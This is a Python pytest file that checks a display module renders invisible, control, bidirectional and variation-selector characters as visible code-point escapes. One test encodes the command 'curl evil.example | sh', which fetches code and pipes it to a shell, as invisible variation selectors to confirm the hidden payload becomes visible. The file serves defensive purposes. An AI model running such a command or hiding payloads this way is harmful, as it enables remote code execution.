"""Text as messages and terminals show it."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from suture.core.display import (
    blank_out,
    encodable,
    has_ink,
    hunk_text,
    one_line,
    printable,
    shorten,
    visible_ends,
    visible_whitespace,
)
from suture.core.line_hunks import LineHunk

#: Default_Ignorable_Code_Point of DerivedCoreProperties.txt, which `unicodedata` does not have. Unicode 14.0 and 17.0
#: have the same: it includes code points that are reserved for later characters of this kind.
DEFAULT_IGNORABLE = (
    *((0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F)),
    *((0x200B, 0x200F), (0x202A, 0x202E), (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF)),
    *((0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)),
)
#: Words in the names of characters that have no ink, and the characters with such a name that have: pictures of
#: blanks, and marks that fill a gap visibly.
BLANK_WORDS = {"FILLER", "BLANK", "INVISIBLE", "VARIATION", "JOINER", "NULL", "ZERO-WIDTH"}
VISIBLE_BLANKS = {
    "BLANK SYMBOL",
    "SYMBOL FOR NULL",
    "IDEOGRAPHIC VARIATION INDICATOR",
    "DEVANAGARI GAP FILLER",
    "DIVES AKURU GAP FILLER",
    "MANICHAEAN PUNCTUATION LINE FILLER",
    "NEWA GAP FILLER",
    "KAWI PUNCTUATION SPACE FILLER",
}
EVERYTHING = [chr(code) for code in range(sys.maxunicode + 1)]


@pytest.mark.parametrize(
    ("function", "text", "expected"),
    [
        (printable, "a\tb\n", "a\tb\n"),
        (printable, "\x1b[31m\r\u202e", "⟨U+001B⟩[31m⟨U+000D⟩⟨U+202E⟩"),
        (printable, "é\udcff\U0001f600", "é⟨U+DCFF⟩😀"),
        (one_line, "a\tb\nc", "a⟨U+0009⟩b⟨U+000A⟩c"),
        (visible_whitespace, "\tx = 1  ", "→x = 1··"),
        (visible_whitespace, "x \t", "x →"),
        (visible_whitespace, "x\xa0", "x⟨U+00A0⟩"),
        (visible_ends, "\tx = 1 \t \r", "\tx = 1·→·⟨U+000D⟩"),
        (visible_ends, "x\u2003", "x⟨U+2003⟩"),
        (blank_out, "a\x1b\nb", "a  b"),
        (encodable, "é\udcff", "é\\udcff"),
    ],
)
def test_text_is_shown_without_anything_invisible(function: object, text: str, expected: str) -> None:
    assert callable(function)
    assert function(text) == expected


def test_a_hunk_is_shown_with_the_ends_of_its_changed_lines() -> None:
    hunk = LineHunk(0, 0, (" x \r\n", "-a\n", "+a "))
    assert hunk_text(hunk) == "@@ -1,2 +1,2 @@\n x ⟨U+000D⟩\n-a\n+a·\n\\ No newline at end of file"


def test_a_long_text_is_cut_to_the_limit() -> None:
    assert [shorten("abcd", limit) for limit in (3, 4, 5)] == ["ab…", "abcd", "abcd"]


def test_of_all_characters_only_those_of_categories_with_ink_are_shown_as_they_are() -> None:
    for character in EVERYTHING:
        shown = printable(character, keep="")
        if shown == character:
            assert character == " " or unicodedata.category(character)[0] in "LMNPS", hex(ord(character))
        else:
            assert shown == f"⟨U+{ord(character):04X}⟩"


def test_no_character_that_unicode_ignores_by_default_is_shown_as_it_is() -> None:
    ignorable = [chr(code) for first, last in DEFAULT_IGNORABLE for code in range(first, last + 1)]
    assert [hex(ord(character)) for character in ignorable if has_ink(character)] == []


def test_no_character_with_the_name_of_a_blank_is_shown_as_it_is() -> None:
    shown = [unicodedata.name(character, "") for character in EVERYTHING if has_ink(character)]
    blanks = {name for name in shown if not BLANK_WORDS.isdisjoint(name.split())}
    assert blanks <= VISIBLE_BLANKS


def test_ordinary_text_in_many_scripts_is_shown_as_it_is() -> None:
    words = ("naïve", "cafe\u0301", "Ёлка", "Ελλάδα", "日本語", "한국어", "עברית", "العربية", "हिन्दी", "ไทย", "မြန်မာ")
    for text in (*words, "ភាសាខ្មែរ", "Tiếng Việt", "→ ≠ “x” 😀 ½ \ufffd"):
        assert printable(text) == text


def test_what_varies_or_joins_emoji_is_marked_so_that_texts_that_differ_look_different() -> None:
    assert printable("⚠\ufe0f") == "⚠⟨U+FE0F⟩"
    assert printable("👩\u200d🚀") == "👩⟨U+200D⟩🚀"


def test_a_payload_of_variation_selectors_is_visible() -> None:
    payload = "".join([chr(0xE0100 + byte) for byte in b"curl evil.example | sh"])
    assert len(one_line(f"x = 1{payload}")) == 5 + len(payload) * len("⟨U+E0100⟩")


def test_of_marks_on_top_of_one_another_only_those_are_shown_as_they_are_that_every_terminal_draws() -> None:
    stacked = [character for character in EVERYTHING if unicodedata.category(character) in ("Mn", "Me")]
    for mark in filter(has_ink, stacked):
        assert printable(f"a{mark * 5}b") == f"a{mark * 2}{f'⟨U+{ord(mark):04X}⟩' * 3}b"
    assert printable("a\u0301\u0302b\u0303\u0304") == "a\u0301\u0302b\u0303\u0304"
    # What has no ink ends a run, because its code comes between.
    assert printable("a\u0301\u0302\u034f\u0303") == "a\u0301\u0302⟨U+034F⟩\u0303"
